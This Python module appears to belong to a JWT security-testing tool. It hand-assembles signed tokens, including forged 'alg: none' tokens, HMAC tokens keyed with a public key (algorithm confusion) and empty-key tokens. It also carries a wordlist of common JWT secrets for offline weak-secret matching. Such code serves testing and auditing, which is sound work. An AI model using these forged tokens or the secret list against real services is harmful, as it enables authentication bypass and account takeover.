"""Compact JWS by hand: encode, decode without verifying, sign (also with keys PyJWT refuses), offline weak-secret check.

Attack tokens that PyJWT refuses to make (``alg: none``, HMAC keyed with a PEM public key,
empty keys, broken encodings) are assembled here as
``base64url(header) . base64url(payload) . signature``.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

from jwt.algorithms import get_default_algorithms

#: A small list of secrets seen in tutorials, templates and leaked configs (plus blank).
#: Only checked OFFLINE against the baseline token; never sent as a brute force.
COMMON_SECRETS: tuple[str, ...] = (
    "", "secret", "secret123", "secretkey", "secret_key", "secret-key", "SECRET_KEY", "password",
    "changeme", "change-me", "changeit", "jwt", "jwt_secret", "jwt-secret", "jwtsecret", "JWT_SECRET_KEY",
    "your-secret-key", "your_secret_key", "your-256-bit-secret", "your-secret-key-change-in-production",
    "your-super-secret-jwt-key-change-in-production", "mysecret", "my-secret", "supersecret",
    "super-secret", "s3cr3t", "key", "test", "testing", "admin", "default", "development",
    "dev-secret", "infra-mind", "infra_mind", "infra-mind-secret", "123456", "qwerty", "letmein", "token",
)
_HASH = {"256": hashlib.sha256, "384": hashlib.sha384, "512": hashlib.sha512}


def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    """Inverse of :func:`b64url` (padding restored)."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def json_bytes(obj: Any) -> bytes:
    """Compact JSON (no spaces), as JWS segments are encoded."""
    return json.dumps(obj, separators=(",", ":")).encode()


def split_token(token: str) -> tuple[dict[str, Any] | None, dict[str, Any] | None, str]:
    """Decode a compact JWS without verifying: (header, claims, signature_b64); None where undecodable."""
    parts = token.split(".")
    out: list[Any] = [None, None]
    for i in range(2):
        try:
            v = json.loads(b64url_decode(parts[i]))
            out[i] = v if isinstance(v, dict) else None
        except (IndexError, ValueError, UnicodeDecodeError):
            pass
    return out[0], out[1], parts[2] if len(parts) > 2 else ""


def hmac_sign(signing_input: bytes, key: bytes, alg: str = "HS256") -> bytes:
    """Raw HMAC signature with any key bytes (also PEM/DER public keys or b'')."""
    return hmac.new(key, signing_input, _HASH[alg[-3:]]).digest()


def assemble(header: dict[str, Any], claims: dict[str, Any], signature: bytes | str = b"") -> str:
    """Compact token from parts; ``signature`` raw bytes or an already-encoded string."""
    sig = signature if isinstance(signature, str) else b64url(signature)
    return f"{b64url(json_bytes(header))}.{b64url(json_bytes(claims))}.{sig}"


def sign_segments(header: dict[str, Any], payload_segment: str, key: Any) -> str:
    """``header.payload.signature`` over an already-encoded payload segment, signed per ``header['alg']``.

    The payload segment is signed as it is: base64url claims, a nested token, or the raw
    JSON of an RFC 7797 unencoded (``b64: false``) payload. HS* accepts any key bytes (also
    ones PyJWT refuses); other algorithms use PyJWT's primitives.
    """
    alg = header["alg"]
    signing_input = f"{b64url(json_bytes(header))}.{payload_segment}".encode()
    if alg.startswith("HS"):
        raw = key if isinstance(key, bytes) else str(key).encode()
        sig = hmac_sign(signing_input, raw, alg)
    else:
        sig = get_default_algorithms()[alg].sign(signing_input, key)
    return f"{signing_input.decode()}.{b64url(sig)}"


def sign_with(header: dict[str, Any], claims: dict[str, Any], key: Any) -> str:
    """Token signed with the algorithm named in ``header['alg']`` using PyJWT's primitives."""
    return sign_segments(header, b64url(json_bytes(claims)), key)


def weak_secret_matches(token: str, candidates: tuple[str, ...] = COMMON_SECRETS) -> list[int]:
    """Indexes of ``candidates`` whose HMAC verifies ``token`` (offline; HS* only).

    Returns indexes, not values, so a report never prints a secret.
    """
    header, _, sig = split_token(token)
    if not header or not str(header.get("alg", "")).startswith("HS") or str(header["alg"])[-3:] not in _HASH:
        return []
    signing_input = token.rsplit(".", 1)[0].encode()
    try:
        want = b64url_decode(sig)
    except ValueError:
        return []
    return [i for i, c in enumerate(candidates)
            if hmac.compare_digest(hmac_sign(signing_input, c.encode(), header["alg"]), want)]
